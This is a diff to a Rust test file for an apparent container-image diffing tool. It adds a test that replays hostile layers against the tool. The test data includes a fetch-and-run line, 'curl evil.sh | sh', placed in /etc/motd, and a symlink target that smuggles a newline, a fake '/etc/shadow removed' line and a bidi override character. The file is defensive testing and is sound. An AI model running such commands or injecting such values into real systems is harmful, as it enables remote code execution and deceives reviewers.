@@ -221,7 +221,7 @@ fn a_layer_index_is_kept_and_read_back_instead_of_the_layer() {
     let base = image(&store, None, std::slice::from_ref(&l));
     let side = Side::of_image("base", &base).unwrap();
     let first = side.sources[0].index(&store).unwrap();
-    let kept = store.diff_index_path(&l.diff_id);
+    let kept = store.diff_index_path(&l.digest);
     assert!(kept.is_file());
     // The blob gone, the kept index still answers.
     std::fs::remove_file(store.blob_path(&l.digest)).unwrap();
@@ -240,7 +240,7 @@ fn a_layer_index_is_kept_and_read_back_instead_of_the_layer() {
         .unwrap();
     store.gc().unwrap();
     assert!(kept.is_file(), "the named image's layer index is kept");
-    assert!(!store.diff_index_path(&other.diff_id).exists());
+    assert!(!store.diff_index_path(&other.digest).exists());
 
     // An index that is not one is not believed: the blob is read (and,
     // gone, fails naming it).
@@ -406,4 +406,159 @@ fn packages_are_compared_from_each_sides_dpkg_status() {
         err.starts_with("c: it has no /var/lib/dpkg/status"),
         "{err}"
     );
+}
+
+/// The attacks of a reviewer, each replayed: what a hostile layer or
+/// archive tried to hide, forge or make slow.
+#[test]
+fn hostile_layers_cannot_hide_forge_or_stall_a_diff() {
+    let (d, store) = store();
+    let base = image(
+        &store,
+        None,
+        &[layer(&store, Compression::Gzip, &base_entries())],
+    );
+    let sb = Side::of_image("base", &base).unwrap();
+
+    // An opaque marker at the root hides the whole base: not equal.
+    let root_opaque = image(
+        &store,
+        Some(&base),
+        &[layer(
+            &store,
+            Compression::None,
+            &[E::Opaque("."), E::File("hello", b"hi\n")],
+        )],
+    );
+    let r = diff(
+        &store,
+        &sb,
+        &Side::of_image("hostile", &root_opaque).unwrap(),
+        &DiffOptions::default(),
+    )
+    .unwrap();
+    let removed: Vec<&str> = r
+        .changes
+        .iter()
+        .filter(|c| c.status == Status::Removed)
+        .map(|c| c.path.as_str())
+        .collect();
+    assert!(
+        removed.contains(&"/etc/motd") && removed.contains(&"/usr/blob"),
+        "{removed:?}"
+    );
+
+    // A path twice in one layer: the text shown is the last entry's, the
+    // one an unpack keeps.
+    let twice = d.path().join("twice.tar");
+    std::fs::write(
+        &twice,
+        tar_of(&[
+            E::Dir("etc"),
+            E::File("etc/motd", b"welcome\nhave a nice day\n"),
+            E::File("etc/motd", b"welcome\ncurl evil.sh | sh\n"),
+        ]),
+    )
+    .unwrap();
+    let st = Side::open(&store, twice.to_str().unwrap()).unwrap();
+    let r = diff(
+        &store,
+        &sb,
+        &st,
+        &DiffOptions {
+            paths: vec!["/etc/motd".into()],
+            ..DiffOptions::default()
+        },
+    )
+    .unwrap();
+    let text = &r.changes[0].text.as_ref().unwrap().unified;
+    assert!(
+        text.contains("+curl evil.sh | sh") && !text.contains("nice day"),
+        "{text}"
+    );
+
+    // A symlink target cannot print a line of its own.
+    let liar = d.path().join("liar.tar");
+    std::fs::write(
+        &liar,
+        tar_of(&[E::Symlink("x", "a\nD /etc/shadow  removed\u{202e}")]),
+    )
+    .unwrap();
+    let sl = Side::open(&store, liar.to_str().unwrap()).unwrap();
+    let r = diff(&store, &sb, &sl, &DiffOptions::default()).unwrap();
+    let x = r.changes.iter().find(|c| c.path == "/x").unwrap();
+    let said = x.b.as_ref().unwrap().describe();
+    assert!(!said.contains('\n') && !said.contains('\u{202e}'), "{said}");
+
+    // A name too long to be a path is refused, naming it.
+    let long = d.path().join("long.tar");
+    let deep = vec!["a"; 2100].join("/");
+    std::fs::write(&long, tar_of(&[E::File(&deep, b"x")])).unwrap();
+    let sl = Side::open(&store, long.to_str().unwrap()).unwrap();
+    let err = diff(&store, &sb, &sl, &DiffOptions::default())
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("longer than 4096"), "{err}");
+
+    // Two 1 MiB texts with nothing in common: diffed in bounded time.
+    let lines = |p: &str| {
+        (0..100_000)
+            .map(|i| format!("{p}{i}\n"))
+            .collect::<String>()
+    };
+    let (la, lb) = (lines("a"), lines("b"));
+    let (ta, tb) = (d.path().join("ta.tar"), d.path().join("tb.tar"));
+    std::fs::write(&ta, tar_of(&[E::File("big", la.as_bytes())])).unwrap();
+    std::fs::write(&tb, tar_of(&[E::File("big", lb.as_bytes())])).unwrap();
+    let started = std::time::Instant::now();
+    let r = diff(
+        &store,
+        &Side::open(&store, ta.to_str().unwrap()).unwrap(),
+        &Side::open(&store, tb.to_str().unwrap()).unwrap(),
+        &DiffOptions::default(),
+    )
+    .unwrap();
+    assert!(r.changes[0].text.is_some());
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(20),
+        "{:?}",
+        started.elapsed()
+    );
+
+    // A chain of hard links (one file, three names) is not two files.
+    let chain = d.path().join("chain.tar");
+    let split = d.path().join("split.tar");
+    std::fs::write(
+        &chain,
+        tar_of(&[
+            E::File("a", b"1\n"),
+            E::HardLink("b", "a"),
+            E::HardLink("c", "b"),
+        ]),
+    )
+    .unwrap();
+    std::fs::write(
+        &split,
+        tar_of(&[
+            E::File("a", b"1\n"),
+            E::File("b", b"1\n"),
+            E::HardLink("c", "b"),
+        ]),
+    )
+    .unwrap();
+    let r = diff(
+        &store,
+        &Side::open(&store, chain.to_str().unwrap()).unwrap(),
+        &Side::open(&store, split.to_str().unwrap()).unwrap(),
+        &DiffOptions::default(),
+    )
+    .unwrap();
+    assert!(r.differs(), "one file with three names against two files");
+
+    // A config claiming the base's diff_id over another blob shares nothing.
+    let mut l = layer(&store, Compression::Gzip, &[E::File("evil", b"x")]);
+    l.diff_id = base.diff_ids().unwrap()[0].clone();
+    let claims = image(&store, None, &[l]);
+    let sc = Side::of_image("claims", &claims).unwrap();
+    assert_eq!(sb.shared_with(&sc), 0);
 }
